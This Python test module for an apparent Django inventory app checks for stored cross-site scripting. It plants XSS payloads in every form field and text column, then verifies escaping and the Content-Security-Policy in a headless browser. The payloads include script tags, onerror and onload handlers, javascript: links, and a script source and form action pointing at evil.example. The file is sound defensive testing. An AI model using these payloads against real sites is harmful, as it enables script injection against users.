"""A script typed into every text field there is: shown as typed, never run.

WSTG-INPV-02, stored cross-site scripting; A03 of the OWASP Top 10 (2021). First through every form
that writes, then into every text column of the record past all forms, and then every kind of page
is looked at: by a parser, and by a real Chromium which reports what its policy had to stop.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest

from tests.asking import Answer, Client, Form, Page, crawl, kind_of
from tests.journeys.conftest import DESK, PHONE, opened_at
from tests.security.conftest import copied, signed_in_by_address
from tests.servers import Server

#: Closes an attribute or an element and opens a script; the longest that fits is used.
PAYLOADS = (
    "\"'></textarea></title><script>owned=1</script><img src=x onerror=owned=1>",
    "\"'><img src=x onerror=owned=1>",
    "'\"><ck-x onclick=a>",
    "<ck-x>",
)

#: Fields which hold a word of the program's own or what it has read from a typed text, so that no
#: form and no writer lets other text in. Each is named, so that a new one is looked at.
OF_THE_PROGRAM = {
    "password",
    "scale",
    "at",
    "unit",
    "rule",
    "gauge",
    "cause",
    "proposed",
    "service",
    "number_key",
    "what",
}

#: Where any text at all would make of every car a visitor's, or of every report a withdrawn one.
SAYING_SOMETHING = {"visitor", "held_because", "withdrawn_because", "retired_note"}

WRITE = f"""
from django.apps import apps
from django.db import IntegrityError, models, transaction
for model in apps.get_models():
    if not model.__module__.startswith("inventory."):
        continue
    for field in model._meta.concrete_fields:
        if type(field) not in (models.CharField, models.TextField) or field.choices:
            continue
        if field.name in {OF_THE_PROGRAM!r}:
            continue
        most = field.max_length or 4000
        rows = model._base_manager.all()
        if field.name in {SAYING_SOMETHING!r}:
            rows = rows.exclude(**{{field.name: ""}})
        n_written = 0
        for row in rows.values_list("pk", flat=True):
            text = next((p for p in {PAYLOADS!r} if len(p) + len(str(row)) <= most), None)
            if text is None:
                break
            try:
                with transaction.atomic():
                    model._base_manager.filter(pk=row).update(**{{field.name: text + str(row)}})
                n_written += 1
            except IntegrityError:  # a reading by gauge has no text
                pass
        if rows.exists():
            print("written" if n_written else "short", f"{{model.__name__}}.{{field.name}}")
"""


def unescaped(page: Page) -> list[str]:
    """What of a page a browser would run or what broke out of its place."""
    found = []
    for tag, facts in page.tags:
        if tag in ("ck-x", "iframe", "object", "embed", "base", "style"):
            found.append(f"<{tag}>")
        if tag == "script" and not (facts.get("src") or "").startswith("/static/"):
            found.append("a script of the page's own")
        if tag == "img" and facts.get("src") == "x":
            found.append("<img src=x>")
        found += [f"{tag} {name}" for name in facts if name.startswith("on") or name == "style"]
        found += [
            f"{name}={value}"
            for name, value in facts.items()
            if name in ("href", "src", "action", "formaction")
            and (value or "").strip().lower().startswith(("javascript:", "data:", "vbscript:"))
        ]
    return found


@dataclass
class Poisoned:
    server: Server
    client: Client
    said: list[tuple[str, Answer]] = field(default_factory=list)  # what the forms answered
    taken: set[str] = field(default_factory=set)  # fields of forms which took it
    refused: set[str] = field(default_factory=set)
    written: list[str] = field(default_factory=list)  # and columns


def payload(most: int) -> str:
    return next((each for each in PAYLOADS if len(each) <= most), "")


def fill(record: Poisoned, path: str, form: Form) -> None:
    """Sends a form with the payload in every text; what is refused is sent as it was, again."""
    action = form.action or path
    kept = dict(form.values)
    filled = {name: payload(most) for name, most in form.texts.items() if payload(most)}
    for _ in range(4):
        answer = record.client.send(action, {**kept, **filled})
        record.said.append((action, answer))
        if answer.status == 302:
            record.taken |= set(filled)
            return
        wrong = {
            facts.get("name")
            for tag, facts in answer.page.tags
            if facts.get("aria-invalid") == "true" and facts.get("name") in filled
        }
        record.refused |= wrong
        for name in wrong:
            del filled[name]
        if not wrong or not filled:
            return


@pytest.fixture(scope="module")
def poisoned(demo_record, tmp_path_factory) -> Iterator[Poisoned]:
    server = Server(copied(demo_record, tmp_path_factory.mktemp("poisoned") / "record"))
    record = Poisoned(server, signed_in_by_address(server))
    done = set()
    for path, answer in crawl(record.client, most_of_a_kind=1).items():
        if answer.status != 200 or not answer.headers["Content-Type"].startswith("text/html"):
            continue
        for form in answer.page.forms:
            texts = {each: most for each, most in form.texts.items() if payload(most)}
            key = (kind_of(form.action or path), frozenset(texts))
            if form.method == "post" and texts and key not in done:
                done.add(key)
                fill(record, path, form)
    for line in server.shell(WRITE).splitlines():
        record.written.append(line)
    yield record
    server.stop()


def test_forms_that_write_take_the_script_as_text(poisoned):
    """Otherwise the pages would be looked at for nothing."""
    assert {"name", "notes", "note", "reason", "reporting_mark", "first_name"} <= poisoned.taken
    assert all(answer.status < 500 for _, answer in poisoned.said)
    for path, answer in poisoned.said:
        assert unescaped(answer.page) == [], path


def test_every_text_column_of_the_record_holds_the_script(poisoned):
    written = [line for line in poisoned.written if line.startswith("written")]
    other = [line for line in poisoned.written if not line.startswith("written")]
    assert len(written) > 40
    # Of one to four letters.
    assert {line.split()[1] for line in other} <= {
        "Vehicle.aar_designation",
        "Vehicle.uic_letter",
        "Vehicle.currency",
    }


def test_no_page_lets_it_out(poisoned):
    found = crawl(poisoned.client)
    with_it = 0
    for path, answer in found.items():
        assert answer.status in (200, 302, 405), path
        if answer.headers.get("Content-Type", "").startswith("text/html"):
            assert unescaped(answer.page) == [], path
            with_it += "owned=1" in answer.text
    assert len(found) > 60
    assert with_it > 30


# --- In a real browser --------------------------------------------------------------------------

WATCH = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", event => window.stopped.push(
  `${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""


def sign_in(browser, client: Client, base: str) -> None:
    browser.get(f"{base}/sign-in/")
    for name, value in client.cookies.items():
        browser.add_cookie({"name": name, "value": value, "path": "/"})


def watched(tmp_path, size, record: Poisoned):
    opened = opened_at(tmp_path, size)
    browser = opened.__enter__()
    browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})
    sign_in(browser, record.client, record.server.base)
    return opened, browser


@pytest.mark.browser
def test_browser_runs_no_stored_script_and_has_nothing_to_stop(poisoned, tmp_path):
    pages = [
        path
        for path, answer in crawl(poisoned.client, most_of_a_kind=1).items()
        if answer.status == 200 and answer.headers["Content-Type"].startswith("text/html")
    ]
    assert len(pages) > 40
    opened, browser = watched(tmp_path, PHONE, poisoned)
    try:
        for path in pages:
            browser.get(poisoned.server.base + path)
            assert browser.execute_script("return window.stopped") == [], path
            assert browser.execute_script("return typeof window.owned") == "undefined", path
            assert browser.execute_script("return typeof window.htmx") == "object", path
    finally:
        opened.__exit__(None, None, None)


@pytest.mark.browser
def test_htmx_works_under_the_policy_without_evaluating_anything(poisoned, tmp_path):
    opened, browser = watched(tmp_path, DESK, poisoned)
    try:
        browser.get(f"{poisoned.server.base}/stock/")
        browser.execute_script(
            "document.body.addEventListener('htmx:afterSwap', () => window.swapped = true);"
            "const q = document.getElementById('id_q'); q.value = 'no such car';"
            "q.dispatchEvent(new Event('change', {bubbles: true}));"
        )
        browser.implicitly_wait(10)
        for _ in range(100):
            if browser.execute_script("return window.swapped === true"):
                break
            browser.execute_async_script("setTimeout(arguments[0], 100)")
        assert browser.execute_script("return window.swapped") is True
        assert "q=no" in browser.current_url
        assert browser.execute_script("return window.stopped") == []
        config = browser.execute_script("return window.htmx.config")
        assert config["allowEval"] is config["includeIndicatorStyles"] is False
        assert config["allowScriptTags"] is False
        assert config["selfRequestsOnly"] is True
        # Nothing of the record stays behind in the browser; htmx notes the address only.
        kept = browser.execute_script(
            "return [...Object.keys(localStorage), ...Object.keys(sessionStorage)]"
        )
        assert set(kept) <= {"htmx-current-path-for-history"}
    finally:
        opened.__exit__(None, None, None)


@pytest.mark.browser
def test_policy_stops_a_script_even_where_escaping_failed(poisoned, tmp_path):
    """The second line, tried by putting into a page what escaping keeps out."""
    opened, browser = watched(tmp_path, DESK, poisoned)
    try:
        browser.get(f"{poisoned.server.base}/bench/")
        for markup in (
            "<img src=x onerror=owned=1>",
            "<svg onload=owned=1></svg>",
            "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
            "<a id=click href='javascript:owned=1'>x</a>",
            "<form action='https://evil.example/'><button id=away>x</button></form>",
            "<div style='position:fixed'>x</div>",
        ):
            browser.execute_script(
                "document.querySelector('main').insertAdjacentHTML('beforeend', arguments[0])",
                markup,
            )
        browser.execute_script(
            "const s = document.createElement('script'); s.textContent = 'window.owned = 1';"
            "document.body.append(s);"
            "const far = document.createElement('script');"
            "far.src = 'https://evil.example/x.js'; document.body.append(far);"
            "document.getElementById('click').click();"
            "document.getElementById('away').click();"
        )
        browser.execute_async_script("setTimeout(arguments[0], 1000)")
        stopped = " ".join(browser.execute_script("return window.stopped"))
        for directive in ("script-src-elem", "script-src-attr", "style-src-attr", "form-action"):
            assert directive in stopped
        assert "evil.example/x.js" in stopped
        assert browser.execute_script("return typeof window.owned") == "undefined"
        assert browser.current_url == f"{poisoned.server.base}/bench/"
    finally:
        opened.__exit__(None, None, None)
